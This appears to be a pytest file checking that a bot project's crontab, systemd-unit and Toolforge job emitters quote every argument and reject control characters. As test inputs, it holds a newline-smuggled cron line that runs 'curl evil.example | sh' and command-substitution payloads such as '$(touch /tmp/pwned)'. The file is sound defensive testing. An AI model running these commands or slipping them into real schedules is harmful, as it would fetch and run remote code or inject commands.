"""Schedules that quote everything: a jobs file cannot inject a line into the crontab or a unit file,
and `jobs list` never prints a raw control character."""
from __future__ import annotations

import configparser
import re
import shlex
from pathlib import Path

import pytest

from bots.core.jobs.emit import crontab, systemd_units, toolforge_jobs
from bots.core.jobs.jobsfile import Job, JobsError, parse_jobs
from bots.core.jobs.schedule import Schedule
from bots.jobs import main as jobs_main

ROOT = Path(__file__).resolve().parents[2]
INJECTION = "-format:json\n* * * * * curl evil.example | sh"


def _jobs_file(tmp_path: Path, arguments: str = '["-source:data", "-format:json"]', extra: str = "") -> Path:
    path = tmp_path / "jobs.yaml"
    path.write_text("jobs:\n  - name: nightly\n    bot: check\n"
                    f"    arguments: {arguments}\n    schedule: '30 2 * * *'\n    timeout: 1h\n{extra}",
                    encoding="utf-8")
    return path


def _active_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")]


@pytest.mark.parametrize("command", ["crontab", "list", "systemd", "toolforge"])
def test_a_newline_in_an_argument_is_refused_with_its_line(tmp_path, capsys, command):
    path = _jobs_file(tmp_path, '["-source:data", "' + INJECTION.replace("\n", "\\n") + '"]')
    assert jobs_main(command, f"-jobs:{path}") == 2
    out, err = capsys.readouterr()
    assert f"{path}:4" in err and "U+000A" in err
    assert "curl evil.example" not in out and "\n* * * * *" not in err     # never printed raw
    assert _active_lines(out) == []


@pytest.mark.parametrize("field, value", [("description", "'two\\nlines'"), ("description", "'bell\\a'"),
                                          ("arguments", "['-a\\rb']"), ("arguments", "['tab\\there']"),
                                          ("arguments", "['nul\\0']"), ("arguments", "['sep\\u2028x']"),
                                          ("bot", "'check\\n'"), ("schedule", "'30 2 * * *\\n* * * * * x'")])
def test_control_characters_are_refused_in_every_field(tmp_path, field, value):
    text = {"name": "'nightly'", "bot": "check", "arguments": "[]", "schedule": "'30 2 * * *'", "timeout": "1h",
            "description": "ok"}
    text[field] = value.replace("'", '"')
    body = "jobs:\n  - " + "\n    ".join(f"{k}: {v}" for k, v in text.items()) + "\n"
    with pytest.raises(JobsError) as err:
        parse_jobs(body, "jobs.yaml", {"check"})
    assert "jobs.yaml:" in str(err.value)
    assert not re.search(r"[\x00-\x1f\x7f\u2028]", str(err.value))


HARD = ["-summary:it's \"quoted\"", "$(touch /tmp/pwned)", "`id`", "a;b", "a b", "100%", "back\\slash", "-x:*", "~"]


def _job(arguments=HARD, name="tricky") -> Job:
    return Job(name, "check", Schedule.parse("@daily"), 60.0, tuple(arguments), "", line=7, path="jobs.yaml")


def test_crontab_quotes_every_word_and_escapes_percent():
    text = crontab([_job()], "/srv/gmw bots", "jobs.yaml", extra=("-state:/var/lib/gmw%state",))
    comment = next(line for line in text.splitlines() if line.startswith("# tricky: python -m bots.check "))
    assert shlex.split(comment[len("# tricky: python -m bots.check "):]) == HARD
    [active] = [line for line in _active_lines(text)]
    command = active.split(" ", 5)[5]
    assert "\\%" in command and "%state" not in command.replace("\\%", "")
    words = shlex.split(command.replace("\\%", "%"))
    assert words[:3] == ["cd", "/srv/gmw bots", "&&"] and words[-1] == "-state:/var/lib/gmw%state"


def _systemd_words(line: str) -> list[str]:
    """ExecStart= as systemd splits it: double-quoted words with C escapes, then $$ and %%."""
    words = re.findall(r'"((?:[^"\\]|\\.)*)"', line)
    assert " ".join(f'"{w}"' for w in words) == line       # every word is quoted
    return [re.sub(r"\\(.)", r"\1", w).replace("$$", "$").replace("%%", "%") for w in words]


def test_systemd_quotes_every_word_and_refuses_what_it_cannot_hold():
    units = systemd_units([_job()], "/srv/gmw bots", extra=("-jobs:/etc/gmw/$HOME%d.yaml",))
    cfg = configparser.ConfigParser(strict=False, interpolation=None)
    cfg.read_string(units["gmw-job-tricky.service"])
    assert _systemd_words(cfg["Service"]["ExecStart"]) == [
        "/srv/gmw bots/.venv/bin/python", "-m", "bots.jobs", "run", "tricky", "-jobs:/etc/gmw/$HOME%d.yaml"]
    assert cfg["Service"]["WorkingDirectory"] == "/srv/gmw bots"
    with pytest.raises(JobsError, match="absolute"):
        systemd_units([_job()], "$HOME/gmw-bots")


@pytest.mark.parametrize("emit", [lambda jobs: crontab(jobs, "/srv/gmw", "jobs.yaml"),
                                  lambda jobs: systemd_units(jobs, "/srv/gmw"),
                                  lambda jobs: toolforge_jobs(jobs, "/srv/gmw")])
def test_what_cannot_be_quoted_is_refused_with_file_and_line(emit):
    """A Job made in code, past the jobs file's checks: every form refuses it all the same."""
    with pytest.raises(JobsError) as err:
        emit([_job([INJECTION])])
    text = str(err.value)
    assert text.startswith("jobs.yaml:7: job 'tricky': ") and "cannot be quoted safely" in text
    assert "\n" not in text


def test_a_newline_in_an_option_repeated_by_the_crontab_is_refused(tmp_path, capsys):
    path = _jobs_file(tmp_path)
    assert jobs_main("crontab", f"-jobs:{path}", "-state:/tmp/x\n* * * * * id") == 2
    out, err = capsys.readouterr()
    assert _active_lines(out) == [] and "cannot be quoted safely" in err


def test_jobs_list_quotes_arguments(tmp_path, capsys):
    path = _jobs_file(tmp_path, '["-summary:two words", "$(id)"]')
    assert jobs_main("list", f"-jobs:{path}") == 0
    line = capsys.readouterr().out.strip()
    assert shlex.split(line.split("python -m bots.check ", 1)[1]) == ["-summary:two words", "$(id)"]


def test_the_project_jobs_file_still_emits(capsys):
    for command in ("crontab", "systemd", "toolforge", "list"):
        assert jobs_main(command) == 0
    assert "bots.jobs run check-sample-full" in capsys.readouterr().out


def test_systemd_itself_accepts_the_units(tmp_path):
    import shutil
    import subprocess
    import sys
    if not shutil.which("systemd-analyze"):
        pytest.skip("systemd-analyze is not installed")
    repo = tmp_path / "repo with space"
    (repo / ".venv/bin").mkdir(parents=True)
    (repo / ".venv/bin/python").symlink_to(sys.executable)
    units = systemd_units([_job()], str(repo), extra=("-jobs:/etc/gmw/$HOME%d \"x\".yaml",))
    for name, text in units.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    res = subprocess.run(["systemd-analyze", "verify", "--man=no", str(tmp_path / "gmw-job-tricky.service")],
                         capture_output=True, text=True, timeout=60)
    assert res.returncode == 0 and res.stderr.strip() == "", res.stderr
